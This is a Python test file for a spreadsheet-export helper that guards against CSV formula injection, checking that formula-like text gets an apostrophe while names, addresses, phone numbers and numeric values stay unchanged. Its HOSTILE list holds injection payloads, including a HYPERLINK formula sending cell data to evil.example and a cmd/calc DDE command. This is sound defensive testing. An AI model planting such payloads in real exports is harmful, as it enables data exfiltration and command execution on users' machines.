"""Spreadsheet cells: text that looks like a formula gets an apostrophe, numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from studio.sheets import Cell, excel_csv, read_cell, safe_cell, write_csv

# OWASP "CSV Injection": these start a formula in Excel, LibreOffice or Google Sheets.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"bấm")',
    "+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "  =1+1",
    "\u00a0=1",
    "\n@SUM(A1)",
    "＝1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    ["Nguyễn Văn Bình", "", "12 Lê Lợi, Q.1", "chốt A12 x2 = 2 cái", "0912345678", "'quoted"],
)
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize("phone", ["+84 912 345 678", "+84912345678", "+1 415.555.0100"])
def test_a_phone_number_in_international_form_stays_as_typed(phone: str) -> None:
    # Carriers read this column; digits, spaces and dots cannot call a function.
    assert safe_cell(phone) == phone


@pytest.mark.parametrize("text", [*HOSTILE, "Lan", "'=already quoted by the seller"])
def test_read_cell_undoes_safe_cell(text: str) -> None:
    assert read_cell(safe_cell(text)) == text


def test_numbers_the_program_writes_stay_numbers() -> None:
    rows: list[list[Cell]] = [[Decimal("-5000"), -2, Decimal("1E+3"), Decimal("12.50"), None, "-5"]]
    text = write_csv(["a", "b", "c", "d", "e", "f"], rows)
    assert list(csv.reader(io.StringIO(text)))[1] == ["-5000", "-2", "1000", "12.50", "", "'-5"]


def test_excel_csv_has_a_bom_crlf_and_quotes_embedded_newlines() -> None:
    data = excel_csv(["name"], [["=1\r\n=2"], ['a "b", c']])
    assert data.startswith("\ufeff".encode())
    text = data.decode("utf-8-sig")
    assert text.startswith("name\r\n")
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["name"],
        ["'=1\r\n=2"],
        ['a "b", c'],
    ]
